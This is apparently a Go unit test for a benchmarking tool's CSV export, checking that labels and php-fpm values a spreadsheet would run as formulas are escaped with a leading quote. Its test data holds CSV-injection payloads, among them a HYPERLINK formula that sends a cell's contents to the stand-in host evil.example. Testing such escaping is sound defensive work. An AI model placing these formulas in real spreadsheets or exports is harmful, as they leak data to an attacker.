package report

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strings"
	"testing"

	"github.com/backbench/backbench/internal/stats"
)

// TestSweepCSVFormulaCells gives sweep.csv labels and php-fpm values that
// a spreadsheet would run as formulas: each is written quoted with a
// leading single quote, while numbers (-5 included) and plain labels stay
// as they were, and the file still reads back as CSV.
func TestSweepCSVFormulaCells(t *testing.T) {
	sw := fixedSweep()
	labels := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+2", "-2+3", "@SUM(A1:A2)", "\tcmd", "\rx", "plain"}
	base := sw.Series[0]
	sw.Series = nil
	for _, l := range labels {
		se := base
		se.Label = l
		se.Levels = []stats.Summary{withUse(level(1, 10, 1, 0))}
		se.Levels[0].Backend.FPMStatusEnd = map[string]string{"listen queue": "-5", "active processes": "=1+1", "max children reached": "@x"}
		sw.Series = append(sw.Series, se)
	}
	var b bytes.Buffer
	if err := SweepCSV(&b, &sw); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`) {
		t.Errorf("the HYPERLINK label is not quoted with a leading ':\n%s", b.String())
	}
	rows, err := csv.NewReader(bytes.NewReader(b.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	fpm := slices.Index(SweepCSVHeader, "fpm_listen_queue")
	if fpm < 0 {
		t.Fatalf("no fpm_listen_queue column in %v", SweepCSVHeader)
	}
	for i, l := range labels {
		row := rows[1+i]
		want := "'" + l
		if l == "plain" {
			want = l
		}
		if row[0] != want {
			t.Errorf("label %q written as %q, want %q", l, row[0], want)
		}
		if got := row[fpm : fpm+3]; !slices.Equal(got, []string{"-5", "'=1+1", "'@x"}) {
			t.Errorf("php-fpm cells %q", got)
		}
		if row[1] != "1" {
			t.Errorf("concurrency cell %q", row[1])
		}
	}
	for _, line := range strings.Split(b.String(), "\n") {
		if strings.HasPrefix(line, "plain,") {
			return // a plain label is not quoted
		}
	}
	t.Error("no row starts with the unquoted plain label")
}
